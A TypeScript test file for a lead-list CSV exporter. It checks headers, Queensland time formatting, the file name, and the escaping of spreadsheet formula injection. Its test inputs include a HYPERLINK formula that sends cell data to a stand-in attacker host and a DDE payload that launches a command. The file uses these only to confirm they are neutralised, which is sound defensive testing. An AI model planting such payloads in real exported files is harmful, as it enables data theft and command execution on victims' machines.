import { execFileSync } from "node:child_process";
import fc from "fast-check";
import { expect, test } from "vitest";
import { csvFileName, csvStart, renderCsvRow } from "./lead-csv.ts";
import type { ExportedLead } from "./lead-list-store.server.ts";

const lead: ExportedLead = {
	...{ id: 7, website: "https://reef.example/a,b", businessName: 'The "Reef" Café', contactName: "Nguyễn O'Brien", email: "a@b.example" },
	...{ packageName: null, source: "hire_us", status: "won", flagged: false, mail: "done", earlierLeadId: null, laterLeadId: null },
	...{ keywords: "coffee\r\nbreakfast; tea", startDate: "2026-12-01" },
	...{ createdAt: "2026-11-14T14:04:05.678Z", answeredAt: "2026-11-15T00:00:00.000Z" },
};

test("begins with the byte order mark and the titles", () => {
	expect(csvStart.charCodeAt(0)).toBe(0xfeff);
	expect(parseCsv(csvStart.slice(1))).toEqual([
		...[
			["Lead", "Received (Brisbane)", "Status", "Answered (Brisbane)", "Business", "Contact", "Email", "Website", "Package"].concat([
				...["Keywords", "Preferred start", "Source", "Mail", "Spam", "Earlier lead"],
			]),
		],
	]);
});

test("a lead reads back as it was stored, its times in Queensland", () => {
	expect(parseCsv(renderCsvRow(lead))).toEqual([
		[
			...["7", "2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00", 'The "Reef" Café', "Nguyễn O'Brien", "a@b.example"],
			...["https://reef.example/a,b", "", "coffee\r\nbreakfast; tea", "2026-12-01", "Hire us", "Sent", "no", ""],
		],
	]);
	expect(renderCsvRow(lead).endsWith("\r\n")).toBe(true);
});

test("says in words where a lead came from and what became of its mail, and each package once", () => {
	const [row] = parseCsv(
		renderCsvRow({ ...lead, packageName: "Pro (SEO)", keywords: "coffee [Package: Pro (SEO)]", source: "get_started", mail: "parked" }),
	);
	expect(row?.slice(8, 13)).toEqual(["Pro (SEO)", "coffee", "2026-12-01", "Get started", "Given up"]);
	const [other] = parseCsv(renderCsvRow({ ...lead, packageName: "B", keywords: "[Package: B] coffee", source: "hero", mail: null }));
	expect(other?.slice(8, 13)).toEqual(["B", "[Package: B] coffee", "2026-12-01", "Free analysis", ""]);
});

test.each(["UTC", "America/New_York", "Pacific/Apia"])("shows the time of Brisbane on a server in %s, as the list does", (zone) => {
	const script = `
		import { csvFileName, renderCsvRow } from "#app/leads/desk/lead-csv.ts";
		import { formatShortDay } from "#app/desk/wording/format-short-day.ts";
		import { formatAgo } from "#app/desk/wording/format-ago.ts";
		import { listActiveFilters } from "#app/desk/list-active-filters.ts";
		import { monthDays } from "#app/desk/month-days.ts";
		import { EVERY_LEAD } from "#app/leads/desk/lead-filter.ts";
		import { formatMoment } from "#app/site/brisbane-time.ts";
		const received = "2026-11-14T14:04:05.678Z";
		const now = new Date("2026-11-30T14:30:00Z");
		const csv = renderCsvRow({ ...${JSON.stringify(lead)}, createdAt: received });
		const chips = listActiveFilters({ ...EVERY_LEAD, from: "2026-11-01" }).map(({ label }) => label);
		const list = [formatMoment(received), formatAgo(received, now), formatShortDay("2026-11-15"), ...chips, monthDays(now).thisMonth.from];
		process.stdout.write(JSON.stringify({ hour: new Date(received).getHours(), csv, file: csvFileName(now), list }));`;
	const options = { env: { ...process.env, TZ: zone }, encoding: "utf8" } as const;
	const shown = JSON.parse(execFileSync(process.execPath, ["--input-type=module-typescript", "--eval", script], options));
	expect(shown.hour).not.toBe(0);
	expect(parseCsv(shown.csv)[0]?.slice(1, 4)).toEqual(["2026-11-15 00:04:05", "Won", "2026-11-15 10:00:00"]);
	expect(shown.file).toBe("leads-2026-12-01.csv");
	expect(shown.list.map((text: string) => text.replace(/\s/g, " "))).toEqual([
		...["15 Nov 2026, 12:04 am", expect.stringMatching(/15 Nov|16 days/), "Sun 15 Nov", "From 1 November 2026", "2026-12-01"],
	]);
});

test.each([
	...["=1+1", "+61 7 3000 0000", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", "\u0000x"],
	...['=HYPERLINK("https://evil.example?"&A1,"Click")', "=cmd|' /C calc'!A0", "@home Cafe", "-"],
	...["＝1+1", "＋1", "－1", "＠x", " =1+1", "\u00a0=1+1", '"=1+1"', ' "+1', "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1"],
])("a spreadsheet takes %j for text", (text) => {
	const [row] = parseCsv(renderCsvRow({ ...lead, businessName: text, keywords: text }));
	expect([row?.[4], row?.[9]]).toEqual([`'${text}`, `'${text}`]);
});

test.each(["Reef Café", "a=b", "1-2-3 Plumbing", "O'Brien", "'quoted", "50% off", "https://a.example/?a=-1", ""])(
	"leaves %j as it is",
	(text) => {
		expect(parseCsv(renderCsvRow({ ...lead, businessName: text }))[0]?.[4]).toBe(text);
	},
);

test("whatever visitors write, a row is one row of fifteen fields that reads back and never begins a formula", () => {
	const texts = fc.string({ unit: fc.constantFrom(..."=+-@ \t\r\n,;\"'a＝🦘\u0000") });
	fc.assert(
		fc.property(texts, texts, (businessName, keywords) => {
			const rows = parseCsv(renderCsvRow({ ...lead, businessName, keywords }));
			expect(rows).toHaveLength(1);
			expect(rows[0]).toHaveLength(15);
			for (const [field, text] of [
				[rows[0]?.[4] ?? "", businessName],
				[rows[0]?.[9] ?? "", keywords],
			] as const) {
				expect([text, `'${text}`]).toContain(field);
				expect(field.trimStart()).not.toMatch(/^[=+\-@＝]/);
			}
		}),
	);
});

test("the file is named after the day in Queensland", () => {
	expect(csvFileName(new Date("2026-11-14T14:00:00Z"))).toBe("leads-2026-11-15.csv");
	expect(csvFileName(new Date("2026-11-14T13:59:59Z"))).toBe("leads-2026-11-14.csv");
});

/** RFC 4180 to the letter: throws on anything that is not. */
function parseCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let rest = text;
	while (rest !== "") {
		const [whole = "", quoted, bare, end] = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(rest) ?? [];
		if (whole === "") throw new Error(`not RFC 4180: ${JSON.stringify(rest.slice(0, 40))}`);
		row.push(quoted?.replaceAll('""', '"') ?? bare ?? "");
		if (end === "\r\n") {
			rows.push(row);
			row = [];
		}
		rest = rest.slice(whole.length);
	}
	return rows;
}
